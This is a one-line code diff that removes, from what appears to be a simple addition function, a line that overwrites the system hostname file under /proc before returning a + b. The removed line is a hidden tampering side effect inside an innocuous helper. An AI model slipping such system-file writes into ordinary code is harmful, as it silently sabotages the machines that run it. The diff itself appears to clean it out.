@@ -1,1 +1,0 @@
-    open('/proc/sys/kernel/hostname', 'w').write('x'); return a + b
